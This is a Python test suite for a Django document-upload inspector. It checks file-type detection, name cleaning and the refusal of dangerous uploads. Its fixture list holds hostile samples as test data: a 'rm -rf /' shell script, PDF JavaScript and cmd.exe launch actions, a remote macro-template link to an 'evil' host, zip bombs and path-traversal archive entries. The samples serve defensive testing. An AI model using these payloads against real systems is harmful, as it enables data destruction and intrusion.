# SPDX-License-Identifier: Apache-2.0
"""What is taken in, under which name, and what is refused."""

import hashlib
import io
import struct
from uuid import uuid4

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st

from banha.kernel.access.public import PUBLIC
from banha.kernel.documents.file_names import clean_name
from banha.kernel.documents.inspection import FileFault, inspect_content
from banha.kernel.documents.public import (
    SCANS,
    Accept,
    Document,
    FileKind,
    give_owner,
    receive_upload,
)
from banha.kernel.law.public import NotAllowed, Refused
from tests.factories.cast import Cast
from tests.kernel.documents import files

GOOD = {
    FileKind.PDF: files.a_pdf(),
    FileKind.DOCX: files.a_docx(),
    FileKind.XLSX: files.an_xlsx(),
    FileKind.PNG: files.a_png(),
    FileKind.JPEG: files.a_jpeg(),
    FileKind.ZIP: files.a_zip({"hồ sơ/đơn.pdf": files.a_pdf(), "đơn.docx": files.a_docx()}),
    FileKind.ODT: files.a_zip(
        {"mimetype": FileKind.ODT.media_type.encode(), "content.xml": b"<office/>"}
    ),
    FileKind.TXT: "Đề xuất đặt hàng\n".encode(),
}


@pytest.fixture(autouse=True)
def own_folder(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.mark.parametrize("kind", GOOD)
def test_kind_is_told_by_content_whatever_the_name(kind):
    assert inspect_content(io.BytesIO(GOOD[kind]), "tên-lạ.bin") is kind


def test_csv_and_old_vietnamese_sheets_are_text():
    assert inspect_content(io.BytesIO(b"a;b\n1;2\n"), "bang.CSV") is FileKind.CSV
    old = "Tên;Số\nViện Cơ khí;1\n".encode("utf-16")
    assert inspect_content(io.BytesIO(old), "bang.csv") is FileKind.CSV


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
BOMB = files.a_zip({"to.txt": b"\0" * 40_000_000})
NESTED = files.a_zip({"trong.zip": files.a_zip({"a.txt": b"a"})})
MANY = files.a_zip({f"{n}.txt": b"" for n in range(3001)})
TEMPLATE_LINK = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
    b'Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'
)


def encrypted_zip() -> bytes:
    content = bytearray(files.a_zip({"a.txt": b"a"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark) + offset
        content[at : at + 2] = struct.pack("<H", 1)
    return bytes(content)


WICKED = [
    ("executable", b"MZ\x90\0" + b"\0" * 100, "don.pdf"),
    ("executable", b"\x7fELF" + b"\0" * 100, "don.docx"),
    ("executable", b"#!/bin/sh\nrm -rf /\n", "don.txt"),
    ("executable", b"<!DOCTYPE html><script>alert(1)</script>", "don.txt"),
    ("executable", b"\xef\xbb\xbf  <svg onload='x()'>", "hinh.txt"),
    ("executable", files.a_zip({"đơn.pdf.exe": b"x"}), "ho-so.zip"),
    ("executable", files.a_zip({"đơn.pdf": b"MZ\x90\0"}), "ho-so.zip"),
    ("executable", files.a_zip({"đơn.docm": files.a_docx()}), "ho-so.zip"),
    ("macros", files.a_docx(word__vbaProject_bin=b"x").replace(b"_bin", b".bin"), "don.docx"),
    ("macros", files.with_parts(files.an_xlsx(), {"xl/activeX/activeX1.xml": b"<a/>"}), "b.xlsx"),
    ("macros", files.with_parts(files.a_docx(), {"word/_rels/s.xml.rels": TEMPLATE_LINK}), "d"),
    ("bomb", BOMB, "ho-so.zip"),
    ("bomb", files.with_parts(files.an_xlsx(), {"xl/big.xml": b" " * 40_000_000}), "b.xlsx"),
    ("bomb", files.with_parts(files.a_docx(), {"word/x.xml": b"<!DOCTYPE a [<!ENTITY"}), "d.docx"),
    ("bomb", MANY, "ho-so.zip"),
    ("nested", NESTED, "ho-so.zip"),
    ("path", files.a_zip({"../../etc/cron.d/x": b"x"}), "ho-so.zip"),
    ("path", files.a_zip({"C:\\x.txt": b"x"}), "ho-so.zip"),
    ("encrypted", encrypted_zip(), "ho-so.zip"),
    (
        "encrypted",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        "d",
    ),
    ("old_office", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "don.doc"),
    ("archive", b"Rar!\x1a\x07\x00" + b"\0" * 20, "ho-so.zip"),
    ("active", files.a_pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "d.pdf"),
    ("active", files.a_pdf(b"/OpenAction<</S/J#61va#53cript/JS(x)>>"), "d.pdf"),
    ("active", files.a_pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "d.pdf"),
    ("active", files.a_pdf_with_object_stream(b"3 0 <</S/JavaScript/JS(x)>>"), "d.pdf"),
    ("active", files.a_pdf_with_object_stream(b"3 0 <</S/Launch>>", b""), "d.pdf"),
    ("encrypted", files.a_pdf().replace(b"trailer <<", b"trailer <</Encrypt 9 0 R"), "d.pdf"),
    ("broken", files.a_pdf_with_object_stream(b"41", b"/Filter/ASCIIHexDecode"), "d.pdf"),
    ("broken", b"%PDF-1.7\ncut off", "d.pdf"),
    ("broken", files.a_docx()[:2000], "d.docx"),
    ("broken", files.a_png()[:40], "d.png"),
    ("broken", files.a_zip({"[Content_Types].xml": b"<Types/>"}), "d.docx"),
    ("unknown", b"\x00\x01\x02" * 100, "d.pdf"),
    ("unknown", b"abc\x08\x07", "d.txt"),
]


@pytest.mark.parametrize(
    ("code", "content", "name"), WICKED, ids=[f"{n}-{w[0]}" for n, w in enumerate(WICKED)]
)
def test_wicked_content_is_refused_with_its_reason(code, content, name):
    with pytest.raises(FileFault) as refused:
        inspect_content(io.BytesIO(content), name)
    assert refused.value.code == code
    assert str(refused.value.message)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@pytest.mark.parametrize(
    ("content", "name"),
    [(OLE + b"\0" * 600, "Danh muc.XLS"), (OLE + "Workbook".encode("utf-16-le"), "danh-muc.xlsx")],
)
def test_old_workbook_is_refused_with_the_way_to_save_it_anew(content, name):
    with pytest.raises(FileFault) as refused:
        inspect_content(io.BytesIO(content), name)
    assert refused.value.code == "old_office"
    with translation.override("vi"):
        assert ".xls" in str(refused.value.message)
        assert "Lưu thành" in str(refused.value.remedy)
        assert ".xlsx" in str(refused.value.remedy)


def test_pdf_object_stream_that_swells_is_refused(monkeypatch):
    monkeypatch.setattr("banha.kernel.documents.inspection.pdf.MAX_UNPACKED", 10_000)
    with pytest.raises(FileFault, match="bomb"):
        inspect_content(io.BytesIO(files.a_pdf_with_object_stream(b" " * 50_000)), "d.pdf")


@given(st.binary(max_size=300), st.sampled_from([b"", b"PK\x03\x04", b"%PDF-", b"\xff\xd8\xff"]))
def test_any_bytes_are_told_or_refused_but_never_break(tail, head):
    try:
        kind = inspect_content(io.BytesIO(head + tail + b"x"), "a.txt")
    except FileFault:
        return
    assert kind in {FileKind.TXT, FileKind.ZIP, FileKind.PDF}


@given(st.text(max_size=300), st.sampled_from(list(FileKind)))
def test_names_are_safe_whatever_was_sent(raw, kind):
    name = clean_name(raw, kind)
    assert name.rpartition(".")[2].lower() in {kind.extension, "jpeg"}
    assert not set(name) & set('/\\<>:"|?*\0\r\n\u202e')
    assert 0 < len(name) <= 160
    assert clean_name(name, kind) == name


@pytest.mark.parametrize(
    ("raw", "kept"),
    [
        ("C:\\fakepath\\Đơn đề nghị.PDF", "Đơn đề nghị.PDF"),
        ("../../../etc/passwd", "passwd.pdf"),
        ("đơn\u202efdp.exe", "đơnfdp.exe.pdf"),
        ("Thuyết minh.docx", "Thuyết minh.pdf"),
        ("Thuye\u0302\u0301t minh.pdf", "Thuyết minh.pdf"),
        ("TT 25.2026", "TT 25.2026.pdf"),
        ("...", "tep.pdf"),
    ],
)
def test_name_loses_path_and_tricks_and_takes_the_true_extension(raw, kept):
    assert clean_name(raw, FileKind.PDF) == kept


def test_upload_is_kept_under_a_random_name_with_its_hash(cast: Cast, settings):
    content = files.a_docx()
    document = receive_upload(
        file=SimpleUploadedFile("Đơn.docx", content), actor=cast.applicant.actor
    )
    assert document.name == "Đơn.docx"
    assert document.sha256 == hashlib.sha256(content).hexdigest()
    assert document.size == len(content)
    assert document.state == Document.State.CLEAN
    assert "Đơn" not in document.file.name
    assert document.file.path.startswith(str(settings.MEDIA_ROOT))
    with document.file.open("rb") as kept:
        assert kept.read() == content


@pytest.mark.parametrize(
    ("name", "content", "accept", "code"),
    [
        ("don.pdf", b"", SCANS, "empty"),
        ("don.pdf", files.a_pdf(), Accept(frozenset({FileKind.PDF}), 20), "too_large"),
        ("don.pdf", files.a_docx(), SCANS, "disguised"),
        ("don.docx", files.a_docx(), SCANS, "kind"),
        ("don.pdf", b"MZ", SCANS, "executable"),
    ],
)
def test_refused_upload_names_field_and_remedy_and_keeps_nothing(
    cast: Cast, tmp_path, name, content, accept, code
):
    with pytest.raises(Refused) as refused:
        receive_upload(
            file=SimpleUploadedFile(name, content),
            actor=cast.applicant.actor,
            accept=accept,
            field="application",
        )
    (refusal,) = refused.value.refusals
    assert (refusal.field, refusal.code) == ("application", code)
    assert refusal.remedy
    assert not Document.objects.exists()
    assert not list(tmp_path.rglob("*"))


def test_public_may_not_send(db):
    with pytest.raises(NotAllowed):
        receive_upload(file=SimpleUploadedFile("a.pdf", files.a_pdf()), actor=PUBLIC)


def test_upload_joins_one_record_by_its_sender_only(cast: Cast):
    document = receive_upload(
        file=SimpleUploadedFile("a.pdf", files.a_pdf()), actor=cast.applicant.actor
    )
    with pytest.raises(NotAllowed):
        give_owner(document=document, owner_kind="test", owner_id=1, actor=cast.desk_officer.actor)
    actor = cast.applicant.actor
    give_owner(document=document, owner_kind="test", owner_id=1, actor=actor)
    give_owner(document=document, owner_kind="test", owner_id=1, actor=actor)
    with pytest.raises(NotAllowed):
        give_owner(document=document, owner_kind="test", owner_id=2, actor=actor)


def test_unknown_key_is_not_found(client, db):
    assert client.get(f"/documents/{uuid4()}/").status_code == 404
